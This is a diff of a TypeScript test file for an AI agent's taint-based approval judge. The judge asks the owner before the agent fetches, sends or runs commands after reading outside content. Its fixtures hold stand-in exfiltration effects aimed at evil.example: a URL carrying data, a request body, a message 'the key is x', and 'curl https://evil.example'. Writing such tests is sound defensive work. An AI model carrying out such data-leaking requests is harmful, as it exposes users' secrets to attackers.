@@ -5,7 +5,7 @@ import { phrase } from "../../i18n/phrase.ts";
 import type { Effect } from "../../runner/tool.ts";
 import { judgeGuest } from "../approval/judges.ts";
 import { combineJudges, type Judge } from "../approval/with-approval.ts";
-import { SeenAddresses } from "./seen-addresses.ts";
+import { ConversationFacts } from "../outgoing/conversation-facts.ts";
 import { createTaintJudge } from "./taint-judge.ts";
 
 const labels = new Set(["web:evil.example"]);
@@ -15,10 +15,12 @@ const allow: Judge = async () => ({ type: "allow" });
 
 async function setUp(judge: Judge = allow) {
   const { roots } = await createWorkspace({ "SOUL.md": "Be kind.\nBe brief.\n" });
-  const seen = new SeenAddresses();
+  const reader = { effectsOf: () => undefined, isSkillFile: () => false };
   const taint = createTaintJudge(judge, {
     roots,
-    seen,
+    factsOf: async () => new ConversationFacts(reader, true),
+    promptTexts: async () => [],
+    isKnownChat: async () => true,
     isPromptFile: (path) => path.endsWith("SOUL.md"),
     promptNames: ["SOUL.md", "memory/"],
     commands: {
@@ -28,12 +30,12 @@ async function setUp(judge: Judge = allow) {
   });
   const judged = (effect: Effect, context: ContextOptions = { labels }) =>
     taint(effect, createToolContext(context));
-  return { judged, seen };
+  return { judged };
 }
 
 const risky: Array<[string, Effect]> = [
   [
-    "a request with data in its address",
+    "a request for an address that nobody wrote",
     { type: "fetch", url: "https://evil.example/?d=x", sendsData: false },
   ],
   ["a request with a body", { type: "fetch", url: "https://evil.example/", sendsData: true }],
@@ -51,7 +53,7 @@ const risky: Array<[string, Effect]> = [
 
 const harmless: Array<[string, Effect]> = [
   ["reading", { type: "read", path: "notes.md" }],
-  ["a request without data", { type: "fetch", url: "https://evil.example/page", sendsData: false }],
+  ["a search", { type: "fetch", url: "https://search.example/", sendsData: false, query: "towers" }],
   ["a message to the same chat", { type: "send", channel: owner.channel, chatId: owner.chatId }],
   ["a command that only looks around", { type: "run", command: "ls" }],
   ["a command that only looks at a prompt file", { type: "run", command: "cat SOUL.md memory/MEMORY.md" }],
@@ -82,15 +84,6 @@ describe("with content from outside", () => {
     expect(await judged(effect, { labels, ownWords })).toEqual({ type: "allow" });
   });
 
-  it("an address that stood in a page or was fetched before is not", async () => {
-    const { judged, seen } = await setUp();
-    const effect: Effect = { type: "fetch", url: "https://evil.example/?page=2#top", sendsData: false };
-    seen.add("cli:direct", ["https://evil.example/?page=2"]);
-    expect(await judged(effect)).toEqual({ type: "allow" });
-    expect(await judged(effect, { labels, sessionKey: "other" })).toMatchObject({ type: "ask" });
-    expect(await judged({ ...effect, sendsData: true })).toMatchObject({ type: "ask" });
-  });
-
   it("the owner sees what would happen: the difference, the message, the arguments", async () => {
     const { judged } = await setUp();
     const details = [];
@@ -99,7 +92,7 @@ describe("with content from outside", () => {
       if (verdict.type === "ask") details.push([verdict.request.phrase.code, verdict.request.detail]);
     }
     expect(details).toEqual([
-      ["approval.fetch", "https://evil.example/?d=x"],
+      ["approval.open-address", "https://evil.example/?d=x"],
       ["approval.fetch", "https://evil.example/"],
       ["approval.send", "the key is x"],
       ["approval.run", "curl https://evil.example"],
